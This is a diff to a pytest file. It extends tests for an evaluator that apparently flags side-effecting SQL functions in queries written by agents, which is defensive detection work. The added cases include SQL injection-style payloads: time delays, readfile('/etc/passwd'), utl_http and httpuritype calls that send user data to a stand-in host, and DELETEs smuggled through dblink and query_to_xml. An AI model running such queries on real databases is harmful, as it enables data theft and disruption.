@@ -194,6 +194,18 @@ def test_an_empty_code_fence_leaves_the_sql_around_it(sql: str, expected: str) -
         ("SELECT name FROM dblink('host=x', 'SELECT name FROM users') AS t(name TEXT)", "postgres", "DBLINK()"),
         ("SELECT dblink_send_query('remote', 'DELETE FROM users'), name FROM users", "postgres", "DBLINK_SEND_QUERY()"),
         ("SELECT name FROM users WHERE dblink_connect('remote', 'host=x') = 'OK'", "postgres", "DBLINK_CONNECT()"),
+        ("SELECT name FROM users WHERE id = 1 AND SLEEP(5) = 0", "mysql", "SLEEP()"),
+        ("SELECT name, BENCHMARK(5000000, MD5('x')) FROM users", "mysql", "BENCHMARK()"),
+        ("SELECT name FROM users WHERE pg_sleep(10) IS NULL", "postgres", "PG_SLEEP()"),
+        ("SELECT query_to_xml('DELETE FROM users RETURNING name', true, false, '')", "postgres", "QUERY_TO_XML()"),
+        ("SELECT name FROM users WHERE pg_advisory_lock(1) IS NULL", "postgres", "PG_ADVISORY_LOCK()"),
+        ("SELECT readfile('/etc/passwd') AS name", "sqlite", "READFILE()"),
+        ("SELECT name FROM EXTERNAL_QUERY('conn', 'SELECT name FROM users')", "bigquery", "EXTERNAL_QUERY()"),
+        ("SELECT name FROM users WHERE SYSTEM$WAIT(10) IS NOT NULL", "snowflake", "SYSTEM$WAIT()"),
+        ("SELECT utl_http.request('http://x.example/' || name) FROM users", "oracle", "UTL_HTTP.REQUEST()"),
+        ("SELECT sys.utl_inaddr.get_host_address(name) FROM users", "oracle", "UTL_INADDR.GET_HOST_ADDRESS()"),
+        ("SELECT dbms_xmlgen.getxml('SELECT name FROM users') FROM dual", "oracle", "DBMS_XMLGEN.GETXML()"),
+        ("SELECT httpuritype('http://x.example/').getclob() FROM dual", "oracle", "HTTPURITYPE()"),
     ],
 )
 def test_a_query_that_calls_a_side_effecting_function_is_never_scored_clean(sql: str, dialect: str, kind: str) -> None:
@@ -282,10 +294,18 @@ def test_an_unparsable_query_with_an_outfile_clause_keeps_its_flag() -> None:
     assert "line 1" in (parsed.error_message or "")
 
 
-def test_a_column_named_like_a_side_effecting_function_is_no_call() -> None:
-    evaluation = evaluate(
-        AgentLogRecord(run_id="r", question="Show the names of the users", sql="SELECT name, edit, nextval FROM users")
-    )
+@pytest.mark.parametrize(
+    ("sql", "dialect"),
+    [
+        ("SELECT name, edit, nextval FROM users", None),
+        ("SELECT name, sleep, benchmark FROM users", "mysql"),
+        ("SELECT utl_http, name FROM users", "oracle"),
+        ("SELECT u.request(name) FROM users u", "oracle"),  # a method of another object than the packages
+    ],
+    ids=["columns", "mysql_columns", "package_named_column", "other_qualifier"],
+)
+def test_a_column_named_like_a_side_effecting_function_is_no_call(sql: str, dialect: str | None) -> None:
+    evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
     assert not any(flag.startswith("non_select_statement") for flag in evaluation.flags)
 
 
